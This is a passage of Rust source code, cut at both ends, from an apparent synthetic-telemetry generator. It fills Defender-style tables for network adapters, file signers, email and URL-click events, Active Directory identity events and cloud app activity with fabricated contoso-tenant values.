            let v = c.counter(1_000_003);
            c.uint(v);
        }),
        "NetworkAdapterName" => device_col(move |c, d| match d.role {
            Role::Linux => c.str("ens160"),
            Role::Mac => c.str(if wifi(&c.ev) { "en0" } else { "en7" }),
            _ => {
                let mut name = String::with_capacity(38);
                name.push('{');
                push_guid(&mut name, hash2(d.key, u64::from(c.ev.spec)), d.key, true);
                name.push('}');
                c.str(&name);
            }
        }),
        "MacAddress" => device_col(move |c, d| {
            let mut mac = d.mac.clone();
            if wifi(&c.ev) {
                mac.replace_range(mac.len() - 2.., "7C");
            }
            c.str(&mac);
        }),
        "NetworkAdapterType" => g(move |c| {
            c.str(if wifi(&c.ev) {
                "Wireless80211"
            } else {
                "Ethernet"
            })
        }),
        "NetworkAdapterStatus" => text("Up"),
        "TunnelType" => text("None"),
        "ConnectedNetworks" => device_col(|c, d| {
            let template = match d.role {
                Role::Laptop | Role::Mac if c.chance(0.5) => {
                    r#"[{"Name":"FRITZ!Box 7590 {{HEX2}}","Description":"Network 2","IsConnectedToInternet":true,"Category":"Private"}]"#
                }
                Role::Linux => {
                    c.null();
                    return;
                }
                _ => {
                    r#"[{"Name":"corp.contoso.com","Description":"corp.contoso.com","IsConnectedToInternet":true,"Category":"Domain"}]"#
                }
            };
            c.render_json(template, true);
        }),
        "DnsAddresses" => g(|c| {
            let w = c.w;
            c.stringified(|c| {
                c.raw("[");
                for &dc in w.dcs.iter().take(2) {
                    c.sep();
                    c.str(&w.devices[dc].ip);
                }
                c.raw("]");
            });
        }),
        "IPv4Dhcp" => device_col(|c, d| {
            if d.role.is_server() {
                c.null()
            } else {
                c.str(&d.gateway())
            }
        }),
        "IPv6Dhcp" => g(|c| c.null()),
        "DefaultGateways" => device_col(|c, d| {
            let gateway = d.gateway();
            c.stringified(|c| {
                c.raw("[");
                c.str(&gateway);
                c.raw("]");
            });
        }),
        "IPAddresses" => device_col(|c, d| {
            c.stringified(|c| {
                c.raw("[{");
                c.key("IPAddress");
                c.str(&d.ip);
                c.key("SubnetPrefix");
                c.raw("24");
                c.key("AddressType");
                c.str("Private");
                c.raw("},{");
                c.key("IPAddress");
                let mut v6 = String::from("fe80::");
                push_hex(&mut v6, d.key >> 48, 4, false);
                v6.push(':');
                push_hex(&mut v6, d.key >> 32, 4, false);
                v6.push(':');
                push_hex(&mut v6, d.key >> 16, 4, false);
                v6.push(':');
                push_hex(&mut v6, d.key, 4, false);
                c.str(&v6);
                c.key("SubnetPrefix");
                c.raw("64");
                c.key("AddressType");
                c.str("Private");
                c.raw("}]");
            });
        }),
        "NetworkAdapterVendor" => device_col(|c, d| {
            let vendor = match d.vendor {
                "Microsoft Corporation" if d.role.is_server() => "Microsoft",
                "VMware, Inc." => "VMware, Inc.",
                "Apple Inc." => "Apple",
                _ => "Intel Corporation",
            };
            c.str(vendor);
        }),
        "OnboardingStatus" => text("Onboarded"),
        "NetworkAdapterDnsSuffix" => device_col(|c, d| match d.role {
            Role::Linux | Role::Mac => c.empty(),
            _ => c.str("corp.contoso.com"),
        }),
        _ => return None,
    })
}

fn certificate_column(name: &str) -> Option<Gen> {
    // The signer of the record's file, if any.
    let signer = |e: &Event| e.file;
    let with_signer = |stringy: bool, f: fn(&mut Ctx<'_>, &'static Signer)| {
        when(signer, stringy, move |c, file| match c.signer(file) {
            Some(s) => f(c, s),
            None if stringy => c.empty(),
            None => c.null(),
        })
    };
    Some(match name {
        "ReportId" => g(|c| {
            let v = c.counter(7);
            c.uint(v);
        }),
        "IsSigned" => when(signer, false, |c, f| {
            let signed = c.signer(f).is_some();
            c.bool(signed);
        }),
        "SignatureType" => with_signer(true, |c, s| {
            c.str(if s.catalog { "Catalog" } else { "Embedded" })
        }),
        "Signer" => with_signer(true, |c, s| c.str(s.signer)),
        "SignerHash" => with_signer(true, |c, s| {
            c.hash(xxhash_rust::xxh3::xxh3_64(s.signer.as_bytes()), 40)
        }),
        "Issuer" => with_signer(true, |c, s| c.str(s.issuer)),
        "IssuerHash" => with_signer(true, |c, s| {
            c.hash(xxhash_rust::xxh3::xxh3_64(s.issuer.as_bytes()), 40)
        }),
        "CertificateSerialNumber" => with_signer(true, |c, s| {
            c.hash(
                xxhash_rust::xxh3::xxh3_64(s.issuer.as_bytes()) ^ 0x5e71a1,
                38,
            );
        }),
        "CrlDistributionPointUrls" => with_signer(true, |c, s| c.str(s.crl)),
        "CertificateCreationTime" => {
            with_signer(false, |c, s| c.time(s.created * NANOS, TimeStyle::z(0)))
        }
        "CertificateExpirationTime" => with_signer(false, |c, s| {
            c.time((s.created + 400 * 86_400) * NANOS, TimeStyle::z(0));
        }),
        "CertificateCountersignatureTime" => with_signer(false, |c, s| {
            c.time((s.created + 30 * 86_400) * NANOS, TimeStyle::z(0));
        }),
        "IsTrusted" => when(signer, false, |c, f| {
            let trusted = c.signer(f).is_some();
            c.bool(trusted);
        }),
        "IsRootSignerMicrosoft" => with_signer(false, |c, s| c.bool(s.microsoft)),
        _ => return None,
    })
}

impl Ctx<'_> {
    /// Who signed a file: by the company in its version information.
    fn signer(&self, f: FileRef) -> Option<&'static Signer> {
        let (company, windows) = match f {
            FileRef::Proc(p) => {
                let ver = &self.w.procs[p as usize].spec.ver;
                (ver.company, ver.product.contains("Windows"))
            }
            FileRef::Dll(d) => (self.w.dlls[d as usize].spec.company, true),
            FileRef::Pool(_) => ("", false),
        };
        SIGNERS.iter().find(|s| {
            s.company == company && (s.windows == windows || s.company != "Microsoft Corporation")
        })
    }
}

// ───────────────────────────────── e-mail ─────────────────────────────────

fn email_event(c: &mut Ctx<'_>) {
    c.ev.msg = Some(c.w.message(c.ev.seq));
}

impl Ctx<'_> {
    /// A message received around the record's time that satisfies `want`
    /// (links other e-mail tables to EmailEvents rows).
    fn message_near(&mut self, want: impl Fn(&Msg) -> bool) -> Msg {
        let w = self.w;
        let elapsed = (self.ev.ts - w.start).max(0) as f64 / w.span as f64;
        let estimate = (w.emails as f64 * elapsed) as u64;
        let (low, high) = (estimate.saturating_sub(300), estimate.max(60));
        let mut msg = w.message(estimate);
        for _ in 0..16 {
            msg = w.message(self.rng.random_range(low..=high));
            if want(&msg) {
                break;
            }
        }
        msg
    }
}

fn attachment_event(c: &mut Ctx<'_>) {
    let msg = c.message_near(|m| m.attachments > 0);
    c.ev.spec = c.rng.random_range(0..u16::from(msg.attachments.max(1)));
    c.ev.msg = Some(msg);
}

fn email_url_event(c: &mut Ctx<'_>) {
    let msg = c.message_near(|m| m.urls > 0);
    c.ev.spec = c.rng.random_range(0..u16::from(msg.urls.max(1)));
    c.ev.msg = Some(msg);
}

fn post_delivery_event(c: &mut Ctx<'_>) {
    let msg = c.message_near(|m| m.kind != MailKind::Clean);
    let actions = &POST_DELIVERY[msg.kind as usize];
    c.ev.spec = c.rng.random_range(0..actions.len() as u16);
    c.ev.action = actions[c.ev.spec as usize].1;
    c.ev.msg = Some(msg);
}

fn url_click_event(c: &mut Ctx<'_>) {
    let msg = c.message_near(|m| m.urls > 0 && m.direction == Direction::Inbound);
    c.ev.accts[SUBJECT] = Some(msg.recipient);
    c.ev.spec = c.rng.random_range(0..u16::from(msg.urls.max(1)));
    let bad = c.w.urls[c.w.message_url(&msg, c.ev.spec) as usize].bad;
    c.ev.action = if bad {
        *c.pick(&[
            ("ClickBlocked", 6),
            ("ClickAllowed", 2),
            ("UrlScanInProgress", 1),
        ])
    } else {
        *c.pick(&[("ClickAllowed", 30), ("UrlErrorPage", 1)])
    };
    c.ev.flag = c.ev.action == "ClickAllowed" || (c.ev.action == "ClickBlocked" && c.chance(0.1));
    c.ev.geo = c.w.users[msg.recipient as usize].home;
    c.ev.msg = Some(msg);
}

/// A column of the record's message.
fn msg_col(f: impl Fn(&mut Ctx<'_>, Msg) + 'static) -> Gen {
    when(|e| e.msg, true, f)
}

/// A column of the record's message verdict.
fn verdict_col(f: impl Fn(&mut Ctx<'_>, &'static Verdict) + 'static) -> Gen {
    msg_col(move |c, m| f(c, &VERDICTS[m.kind as usize]))
}

fn email_column(kind: TableKind, name: &str) -> Option<Gen> {
    use TableKind as T;
    Some(match (kind, name) {
        (_, "NetworkMessageId") => msg_col(|c, m| c.str(&m.network_message_id())),
        (_, "InternetMessageId") => msg_col(|c, m| {
            let id = match m.sender {
                Sender::Internal(_) => {
                    let mut id = String::from("<");
                    push_hex(&mut id, m.key, 12, true);
                    id.push_str("@AM6PR04MB");
                    push_u64(&mut id, 1_000 + m.key % 9_000);
                    id.push_str(".eurprd04.prod.outlook.com>");
                    id
                }
                Sender::External(s) => format!(
                    "<{}@{}>",
                    guid(m.key, hash2(m.key, 3)),
                    SENDERS[s as usize].domain()
                ),
            };
            c.str(&id);
        }),
        (_, "SenderMailFromAddress" | "SenderFromAddress") => msg_col(|c, m| {
            let address = c.w.sender_address(&m);
            c.str(&address);
        }),
        (_, "SenderDisplayName") => msg_col(|c, m| {
            let w = c.w;
            match m.sender {
                Sender::Internal(u) => c.str(&w.users[u as usize].display),
                Sender::External(s) => c.str(SENDERS[s as usize].display),
            }
        }),
        (_, "SenderObjectId") => msg_col(|c, m| match m.sender {
            Sender::Internal(u) => {
                let w = c.w;
                c.opt(w.users[u as usize].object_id.as_deref());
            }
            Sender::External(_) => c.null(),
        }),
        (_, "SenderMailFromDomain" | "SenderFromDomain") => msg_col(|c, m| {
            let address = c.w.sender_address(&m);
            c.str(address.rsplit('@').next().unwrap_or_default());
        }),
        (_, "SenderIPv4") => msg_col(|c, m| match m.sender {
            Sender::Internal(_) => c.null(),
            Sender::External(s) => {
                let ip = format!("{}{}", SENDERS[s as usize].ip_prefix, 2 + m.key % 250);
                c.str(&ip);
            }
        }),
        (_, "SenderIPv6") => g(|c| c.null()),
        (_, "RecipientEmailAddress") => msg_col(|c, m| {
            let address = c.w.recipient_address(&m);
            c.str(&address);
        }),
        (_, "RecipientDomain") => msg_col(|c, m| {
            let address = c.w.recipient_address(&m);
            c.str(address.rsplit('@').next().unwrap_or_default());
        }),
        (_, "RecipientObjectId") => msg_col(|c, m| {
            let w = c.w;
            if m.direction == Direction::Outbound {
                c.null();
            } else {
                c.opt(w.users[m.recipient as usize].object_id.as_deref());
            }
        }),
        (_, "Subject") => msg_col(|c, m| c.str(m.subject())),
        (_, "EmailClusterId") => msg_col(|c, m| c.uint(m.cluster_id())),
        (_, "EmailDirection") => msg_col(move |c, m| {
            if kind == T::EmailPostDeliveryEvents && c.chance(0.3) {
                c.null();
            } else {
                c.str(m.direction.name());
            }
        }),
        (T::EmailPostDeliveryEvents, "DeliveryLocation") => msg_col(|c, m| {
            let location = POST_DELIVERY[m.kind as usize][c.ev.spec as usize].3;
            c.str(location);
        }),
        (_, "DeliveryAction") => verdict_col(|c, v| c.str(v.action)),
        (_, "DeliveryLocation") => verdict_col(|c, v| c.str(v.location)),
        (_, "ThreatTypes" | "OriginalThreatTypes") => verdict_col(|c, v| c.opt(v.threats)),
        (_, "ThreatNames") => verdict_col(|c, v| c.opt(v.threat_names)),
        (_, "DetectionMethods" | "OriginalDetectionMethods") => {
            verdict_col(|c, v| c.opt(v.detection))
        }
        (_, "ConfidenceLevel" | "OriginalConfidenceLevel") => {
            verdict_col(|c, v| c.opt(v.confidence))
        }
        (_, "BulkComplaintLevel") => verdict_col(|c, v| match v.bcl {
            Some(b) => c.uint(u64::from(b)),
            None => c.null(),
        }),
        (_, "EmailAction") => verdict_col(|c, v| c.opt(v.email_action)),
        (_, "EmailActionPolicy") => verdict_col(|c, v| c.opt(v.policy)),
        (_, "EmailActionPolicyGuid") => verdict_col(|c, v| match v.policy {
            Some(p) => {
                let key = xxhash_rust::xxh3::xxh3_64(p.as_bytes());
                c.guid(key, key.rotate_left(17));
            }
            None => c.null(),
        }),
        (_, "OrgLevelAction") => verdict_col(|c, v| c.opt(v.org_action)),
        (_, "OrgLevelPolicy") => {
            verdict_col(|c, v| c.opt(v.org_action.map(|_| "Anti-spam policy: Default")))
        }
        (_, "UserLevelAction" | "UserLevelPolicy") => g(|c| c.null()),
        (_, "AuthenticationDetails") => verdict_col(|c, v| c.str(v.auth)),
        (_, "AttachmentCount") => msg_col(|c, m| c.uint(u64::from(m.attachments))),
        (_, "UrlCount") => msg_col(|c, m| c.uint(u64::from(m.urls))),
        (_, "EmailLanguage") => msg_col(|c, m| c.str(m.language())),
        (_, "EmailSize") => msg_col(|c, m| c.uint(u64::from(m.size))),
        (_, "IsFirstContact") => {
            msg_col(|c, m| c.bool(m.key.is_multiple_of(7) || m.kind != MailKind::Clean))
        }
        (_, "To") => msg_col(|c, m| {
            let address = c.w.recipient_address(&m);
            c.raw("[");
            c.str(&address);
            c.raw("]");
        }),
        (_, "Cc") => msg_col(|c, m| {
            c.raw("[");
            if m.key.is_multiple_of(4) {
                let w = c.w;
                let cc = w.persons.start + (m.key >> 9) as usize % w.persons.len();
                c.opt(w.users[cc].upn.as_deref());
            }
            c.raw("]");
        }),
        (
            _,
            "Connectors"
            | "ExchangeTransportRule"
            | "ForwardingInformation"
            | "DistributionList"
            | "Context"
            | "ThreatClassification"
            | "LatestDeliveryLocation"
            | "LatestDeliveryAction"
            | "Topics"
            | "AdditionalFields",
        ) => g(|c| c.null()),
        (_, "ReportId") => msg_col(move |c, m| {
            let tenant = c.w.tenant_number;
            let id = match kind {
                T::EmailEvents => format!("{}-{tenant}-1", m.network_message_id()),
                T::EmailPostDeliveryEvents => {
                    format!("{}-{}", m.network_message_id(), tenant + c.ev.seq)
                }
                _ => format!("{}-{tenant}-{}", m.network_message_id(), c.ev.seq + 1),
            };
            c.str(&id);
        }),
        // EmailAttachmentInfo
        (_, "FileName") => msg_col(|c, m| {
            let (name, _) = c.w.attachment(&m, c.ev.spec);
            c.str(name);
        }),
        (_, "FileType") => msg_col(|c, m| {
            let (name, _) = c.w.attachment(&m, c.ev.spec);
            c.str(name.rsplit('.').next().unwrap_or("bin"));
        }),
        (_, "SHA256") => msg_col(|c, m| {
            let (_, key) = c.w.attachment(&m, c.ev.spec);
            c.hash(key, 64);
        }),
        (_, "FileSize") => msg_col(|c, m| {
            let (_, key) = c.w.attachment(&m, c.ev.spec);
            c.uint(20_000 + key % 3_000_000);
        }),
        // EmailUrlInfo
        (_, "Url") => msg_col(|c, m| {
            let w = c.w;
            c.str(&w.urls[w.message_url(&m, c.ev.spec) as usize].url);
        }),
        (_, "UrlDomain") => msg_col(|c, m| {
            let w = c.w;
            c.str(&w.urls[w.message_url(&m, c.ev.spec) as usize].domain);
        }),
        (_, "UrlLocation") => lit(&[
            (Some("Body"), 12),
            (Some("Attachment"), 1),
            (Some("QRCode"), 1),
        ]),
        (_, "UrlChainId") => g(|c| c.null()),
        (_, "UrlChainPosition") => raw(&[("null", 3), ("0", 1)]),
        // EmailPostDeliveryEvents
        (_, "Action") => {
            msg_col(|c, m| c.str(POST_DELIVERY[m.kind as usize][c.ev.spec as usize].0))
        }
        (_, "ActionTrigger") => {
            msg_col(|c, m| c.str(POST_DELIVERY[m.kind as usize][c.ev.spec as usize].2))
        }
        (_, "ActionResult") => lit(&[(Some("Success"), 30), (Some("Error"), 1)]),
        (_, "SourceLocation") => g(|c| c.null()),
        _ => return None,
    })
}

fn url_click_column(name: &str) -> Option<Gen> {
    Some(match name {
        "Url" => msg_col(|c, m| {
            let w = c.w;
            c.str(&w.urls[w.message_url(&m, c.ev.spec) as usize].url);
        }),
        "Workload" => lit(&[(Some("Email"), 8), (Some("Teams"), 1), (Some("Office"), 1)]),
        "NetworkMessageId" => msg_col(|c, m| c.str(&m.network_message_id())),
        "ThreatTypes" => msg_col(|c, m| {
            let bad = c.w.urls[c.w.message_url(&m, c.ev.spec) as usize].bad;
            if bad { c.str("Phish") } else { c.empty() }
        }),
        "DetectionMethods" => msg_col(|c, m| {
            let bad = c.w.urls[c.w.message_url(&m, c.ev.spec) as usize].bad;
            if bad {
                c.str(r#"{"Phish":["URL detonation reputation"]}"#)
            } else {
                c.null()
            }
        }),
        "IPAddress" => g(|c| {
            let ip = c.geo_ip();
            c.str(&ip);
        }),
        "IsClickedThrough" => g(|c| {
            let v = c.ev.flag;
            c.bool(v);
        }),
        "UrlChain" => msg_col(|c, m| {
            let w = c.w;
            let url = &w.urls[w.message_url(&m, c.ev.spec) as usize].url;
            if c.chance(0.3) {
                c.null();
            } else {
                c.stringified(|c| {
                    c.raw("[");
                    c.str(url);
                    c.raw("]");
                });
            }
        }),
        "ReportId" => g(|c| c.unique_guid()),
        "AppName" => lit(&[(Some("Outlook"), 8), (Some("Teams"), 1), (Some("Word"), 1)]),
        "AppVersion" => lit(&[
            (Some("16.0.18025.20160"), 6),
            (Some("16.0.17928.20216"), 3),
            (None, 1),
        ]),
        "SourceId" | "SourceSystem" => nothing(),
        "TenantId" => g(|c| {
            let w = c.w;
            c.str(&w.tenant);
        }),
        "Type" => text("UrlClickEvents"),
        "TimeGenerated" => g(|c| {
            let t = c.ev.ts + c.rng.random_range(NANOS..120 * NANOS);
            c.time(t, ENVELOPE_TIME);
        }),
        _ => return None,
    })
}

// ──────────────────────────────── identity ────────────────────────────────

impl Ctx<'_> {
    /// The person, their device and a domain controller of an identity event.
    fn identity_actor(&mut self) -> u16 {
        let w = self.w;
        let user = if self.chance(0.1) {
            (w.admins.start + self.rng.random_range(0..w.admins.len())) as u16
        } else if self.chance(0.05) {
            (w.services.start + self.rng.random_range(0..w.services.len())) as u16
        } else {
            self.pick_person()
        };
        self.ev.accts[SUBJECT] = Some(user);
        self.ev.device = Some(w.persons_device(user) as u16);
        self.ev.peer = Some(w.dcs[self.rng.random_range(0..w.dcs.len())] as u16);
        user
    }
}

fn identity_logon_event(c: &mut Ctx<'_>) {
    c.identity_actor();
    let i = pick_index(&mut c.rng, IDENTITY_LOGONS, |s| s.weight);
    c.ev.spec = i as u16;
    c.ev.action = IDENTITY_LOGONS[i].action;
}

fn identity_query_event(c: &mut Ctx<'_>) {
    c.identity_actor();
    let i = pick_index(&mut c.rng, IDENTITY_QUERIES, |s| s.weight);
    c.ev.spec = i as u16;
    c.ev.action = IDENTITY_QUERIES[i].action;
    c.ev.accts[TARGET_ACCOUNT] = Some(c.pick_person());
}

fn identity_directory_event(c: &mut Ctx<'_>) {
    c.identity_actor();
    let i = pick_index(&mut c.rng, IDENTITY_DIRECTORY, |s| s.weight);
    c.ev.spec = i as u16;
    c.ev.action = IDENTITY_DIRECTORY[i].action;
    c.ev.accts[TARGET_ACCOUNT] = Some(c.pick_person());
}

/// A weighted choice of an index in a table of specs.
fn pick_index<T>(rng: &mut ChaCha8Rng, items: &[T], weight: fn(&T) -> u16) -> usize {
    let total: u32 = items.iter().map(|i| u32::from(weight(i))).sum();
    let mut x = rng.random_range(0..total.max(1));
    for (i, item) in items.iter().enumerate() {
        let w = u32::from(weight(item));
        if x < w {
            return i;
        }
        x -= w;
    }
    items.len().saturating_sub(1)
}

fn identity_column(kind: TableKind, name: &str) -> Option<Gen> {
    use TableKind as T;
    let peer = |e: &Event| e.peer;
    let spec = |e: &Event| Some(e.spec as usize);
    Some(match (kind, name) {
        (_, "Application") => text("Active Directory"),
        (_, "AccountDomain") => when(
            |e| e.accts[SUBJECT],
            true,
            |c, u| {
                let w = c.w;
                match w.users[u as usize].domain {
                    Dom::Corp => c.str(AD_DOMAIN),
                    Dom::NtAuthority => c.str("nt authority"),
                }
            },
        ),
        (_, "DeviceName") => device_col(|c, d| c.str(&d.name.to_ascii_uppercase())),
        (_, "DeviceType") => lit(&[(None, 8), (Some("Desktop"), 2)]),
        (_, "OSPlatform") => lit(&[(None, 7), (Some("Windows 11"), 2), (Some("Windows 10"), 1)]),
        (_, "IPAddress") => device_col(|c, d| c.str(&d.ip)),
        (_, "Port") => g(|c| {
            if c.chance(0.3) {
                c.null();
            } else {
                let port = c.rng.random_range(49_152..65_535u64);
                c.uint(port);
            }
        }),
        (_, "DestinationDeviceName") => when(peer, true, |c, p| {
            let name = format!("{}.{AD_DOMAIN}", c.w.devices[p as usize].name);
            c.str(&name);
        }),
        (_, "DestinationIPAddress") => when(peer, true, |c, p| {
            let w = c.w;
            c.str(&w.devices[p as usize].ip);
        }),
        (T::IdentityLogonEvents, "DestinationPort") => {
            when(spec, false, |c, i| c.uint(IDENTITY_LOGONS[i].port.into()))
        }
        (T::IdentityQueryEvents, "DestinationPort") => {
            when(spec, false, |c, i| c.uint(IDENTITY_QUERIES[i].port.into()))
        }
        (_, "DestinationPort") => raw(&[("null", 3), ("445", 1)]),
        (_, "TargetDeviceName") => g(|c| c.null()),
        (_, "Location" | "ISP" | "Isp") => nothing(),
        (_, "ReportId") => g(|c| c.unique_guid()),
        (T::IdentityLogonEvents, "LogonType") => {
            when(spec, true, |c, i| c.str(IDENTITY_LOGONS[i].logon_type))
        }
        (T::IdentityLogonEvents, "Protocol") => {
            when(spec, true, |c, i| c.str(IDENTITY_LOGONS[i].protocol))
        }
        (T::IdentityLogonEvents, "FailureReason") => {
            when(spec, true, |c, i| c.opt(IDENTITY_LOGONS[i].failure))
        }
        (T::IdentityQueryEvents, "Protocol") => {
            when(spec, true, |c, i| c.str(IDENTITY_QUERIES[i].protocol))
        }
        (T::IdentityQueryEvents, "QueryType") => {
            when(spec, true, |c, i| c.str(IDENTITY_QUERIES[i].query_type))
        }
        (T::IdentityQueryEvents, "Query") => {
            when(spec, true, |c, i| c.render(IDENTITY_QUERIES[i].query))
        }
        (T::IdentityQueryEvents, "QueryTarget") => {
            when(spec, true, |c, i| c.render(IDENTITY_QUERIES[i].target))
        }
        (_, "Protocol") => lit(&[(Some("Ldap"), 3), (Some("Kerberos"), 2), (None, 2)]),
        (T::IdentityLogonEvents, "AdditionalFields") => {
            g(|c| c.render_json(IDENTITY_LOGON_FIELDS, false))
        }
        (T::IdentityQueryEvents, "AdditionalFields") => {
            g(|c| c.render_json(IDENTITY_QUERY_FIELDS, false))
        }
        (_, "AdditionalFields") => when(spec, false, |c, i| {
            c.render_json(IDENTITY_DIRECTORY[i].fields, false)
        }),
        _ => return None,
    })
}

// ─────────────────────────────── cloud apps ───────────────────────────────

fn cloud_app_event(c: &mut Ctx<'_>) {
    let w = c.w;
    let app = pick_index(&mut c.rng, CLOUD_APPS, |a| a.weight);
    let spec = &CLOUD_APPS[app];
    c.ev.app = app as u16;
    c.ev.action = *c.pick(spec.actions);
    let user = if c.chance(0.08) {
        (w.admins.start + c.rng.random_range(0..w.admins.len())) as u16
    } else {
        c.pick_person()
    };
    c.ev.accts[SUBJECT] = Some(user);
    c.ev.geo = match c.rng.random_range(0..100) {
        0..=59 => 0,
        60..=96 => w.users[user as usize].home,
        _ => w.risky_geos[c.rng.random_range(0..w.risky_geos.len())],
    };
    c.ev.flag = GEOS[c.ev.geo as usize].risky;
    if spec.files {
        let role = Role::Workstation;
        c.ev.file = Some(FileRef::Pool(
            w.file_pools[role as usize].sample(&mut c.rng) as u32,
        ));
    }
}

impl Ctx<'_> {
    /// The public IP the subject used from the record's location.
    fn geo_ip(&self) -> String {
        let geo = &GEOS[self.ev.geo as usize];
        let user = self.ev.accts[SUBJECT].map_or(0, u64::from);
        let h = hash3(self.w.seed, user, u64::from(self.ev.geo));
        format!("{}{}.{}", geo.prefix, h % 250 + 2, (h >> 8) % 250 + 2)
    }

    fn cloud_app(&self) -> &'static CloudApp {
        &CLOUD_APPS[self.ev.app as usize]
    }
}

fn cloud_column(name: &str) -> Option<Gen> {
    Some(match name {
        "Application" => g(|c| c.str(c.cloud_app().name)),
        "ApplicationId" => g(|c| c.uint(u64::from(c.cloud_app().id))),
        "AppInstanceId" => raw(&[("0", 1)]),
        "IsAdminOperation" => g(|c| {
            let admin = ADMIN_OPERATIONS.contains(&c.ev.action);
            c.bool(admin);
        }),
        "DeviceType" => lit(&[(Some("Desktop"), 6), (Some("Mobile"), 1), (None, 3)]),
        "OSPlatform" => lit(&[
            (Some("Windows 10"), 5),
            (Some("macOS"), 1),
            (Some("iOS"), 1),
            (None, 3),
        ]),
        "IPAddress" => g(|c| {
            let ip = c.geo_ip();
            c.str(&ip);
        }),
        "IsAnonymousProxy" => g(|c| {
            let tor = GEOS[c.ev.geo as usize].isp.contains("Tor");
            c.bool(tor);
        }),
        "CountryCode" => g(|c| c.str(GEOS[c.ev.geo as usize].country)),
        "City" => g(|c| c.str(GEOS[c.ev.geo as usize].city)),
        "Isp" | "ISP" => g(|c| c.str(GEOS[c.ev.geo as usize].isp)),
        "UserAgent" => lit(USER_AGENTS),
        "ActivityType" => lit(&[(Some("Basic"), 9), (Some("Upload"), 1)]),
        "ActivityObjects" => g(|c| c.activity_objects()),
        "ObjectName" => when(
            |e| e.file,
            true,
            |c, f| {
                let v = c.file_view(f);
                c.str(v.name);
            },
        ),
        "ObjectType" => when(|e| e.file, true, |c, _| c.str("File")),
        "ObjectId" => when(
            |e| e.file,
            true,
            |c, f| {
                let url = c.sharepoint_url(f);
                c.str(&url);
            },
        ),
        "ReportId" => g(|c| {
            let mut id = String::with_capacity(72);
            push_hex(&mut id, mix64(c.ev.seq ^ c.salt), 16, false);
            push_hash(&mut id, hash2(c.salt, c.ev.seq), 48);
            id.push('_');
            push_u64(&mut id, u64::from(c.cloud_app().id));
            c.str(&id);
        }),
        "AccountType" => when(
            |e| e.accts[SUBJECT],
            true,
            |c, u| {
                let admin = c.w.users[u as usize].kind == UserKind::Admin;
                c.str(if admin { "Admin" } else { "Regular" });
            },
        ),
        "IsExternalUser" | "IsImpersonated" => raw(&[("false", 1)]),
        "IPTags" => g(|c| {
            let geo = &GEOS[c.ev.geo as usize];
            c.raw("[");
            if let Some(tag) = geo.tag {
                c.str(tag);
            }
            c.raw("]");
        }),
        "IPCategory" => g(|c| {
            let geo = &GEOS[c.ev.geo as usize];
            c.opt(geo.category);
        }),
        "UserAgentTags" => raw(&[("null", 3), ("[]", 1)]),
        "RawEventData" => g(|c| c.raw_event_data()),
        "AdditionalFields" => g(|c| {
            let satellite = c.ev.flag && c.chance(0.05);
            c.raw("{");
            c.key("IsSatelliteProvider");
            c.bool(satellite);
            c.raw("}");
        }),
        "LastSeenForUser" => g(|c| {
            c.raw("{");
            for key in ["ActionType", "ISP", "IPAddress", "Application"] {
                c.key(key);
                let days = if c.ev.flag {
                    c.rng.random_range(-1..2)
                } else {
                    c.rng.random_range(0..30)
                };
                c.int(days);
            }
            c.raw("}");
        }),
        "UncommonForUser" => g(|c| {
            c.raw("[");
            if c.ev.flag {
                for key in ["ISP", "IPAddress", "CountryCode"] {
                    c.sep();
                    c.str(key);
                }
            }
            c.raw("]");
        }),
        "AuditSource" => text("Defender for Cloud Apps app connector"),
        "SessionData" => g(|c| {
            if c.chance(0.7) {
                c.null();
            } else {
                c.raw("{");
                c.key("InteractiveSessionId");
                c.random_guid();
                c.raw("}");
            }
        }),
        "OAuthAppId" => nothing(),
        _ => return None,
    })
}

impl Ctx<'_> {
    fn sharepoint_url(&self, f: FileRef) -> String {
        let name = self.file_view(f).name;
        let site =
            SHAREPOINT_SITES[(hash2(self.ev.seq, 5) % SHAREPOINT_SITES.len() as u64) as usize];
        format!("https://contoso.sharepoint.com/sites/{site}/Shared Documents/{name}")
    }

    fn activity_objects(&mut self) {
        let w = self.w;
        let Some(user) = self.ev.accts[SUBJECT] else {
            self.raw("[]");
            return;
        };
        let u = &w.users[user as usize];
        self.raw("[{");
        self.key("Type");
        self.str("User");
        self.key("Role");
        self.str("Actor");
        self.key("Name");
        self.str(&u.display);
        self.key("Id");
        self.opt(u.object_id.as_deref());
        self.key("ApplicationId");
        self.uint(u64::from(self.cloud_app().id));
        self.key("ApplicationInstance");
        self.raw("0}");
        if let Some(f) = self.ev.file {
            let url = self.sharepoint_url(f);
            let name = self.file_view(f).name;
            self.raw(",{");
            self.key("Type");
            self.str("File");
            self.key("Role");
            self.str("Target object");
            self.key("Name");
            self.str(name);
            self.key("Id");
            self.str(&url);
            self.raw("}");
        }
        self.raw("]");
    }

    /// The audit record behind a cloud activity: an Office 365 unified audit
    /// log record, or a Google Workspace activity (with a `uniqueQualifier`
    /// beyond 2^53, quirks D.6).
    fn raw_event_data(&mut self) {
        let w = self.w;
        let app = self.cloud_app();
        let user = &w.users[self.ev.accts[SUBJECT].unwrap_or(0) as usize];
        let ip = self.geo_ip();
        let ts = self.ev.ts;
        self.raw("{");
        if app.google {
            self.key("actor");
            self.raw("{");
            self.key("email");
            self.opt(user.upn.as_deref());
            self.key("profileId");
            self.out.push('"');
            push_padded(&mut self.out, user.key, 21);
            self.out.push('"');
            self.raw("}");
            self.key("id");
            self.raw("{");
            self.key("applicationName");
            self.str("token");
            self.key("customerId");
            self.str("C03az79cb");
            self.key("time");
            self.raw("{");
            self.key("dateOnly");
            self.raw("false");
            self.key("timeZoneShift");
            self.raw("0");
            self.key("value");
            self.int(ts / 1_000_000);
            self.raw("}");
            self.key("uniqueQualifier");
            self.int(hash2(self.salt, self.ev.seq) as i64);
            self.raw("}");
            self.key("ipAddress");
            self.str(&ip);
            self.key("kind");
            self.str("admin#reports#activity");
            self.key("events");
            self.raw("[{");
            self.key("name");
            self.str(self.ev.action);
            self.key("type");
            self.str("auth");
            self.raw("}]");
        } else {
            self.key("CreationTime");
            self.time(
                ts,
                TimeStyle {
                    digits: 0,
                    trim: false,
                    zulu: false,
                },
            );
            self.key("Id");
            self.random_guid();
            self.key("Operation");
            self.str(self.ev.action);
            self.key("OrganizationId");
            self.str(&w.tenant);
            self.key("RecordType");
            self.uint(u64::from(app.record_type));
            self.key("ResultStatus");
            self.str("Succeeded");
            self.key("UserKey");
            self.opt(user.object_id.as_deref());
            self.key("UserType");
            self.raw(if user.kind == UserKind::Admin {
                "2"
            } else {
                "0"
            });
            self.key("Version");
            self.raw("1");
            self.key("Workload");
            self.str(app.workload);
            self.key("ClientIP");
            self.str(&ip);
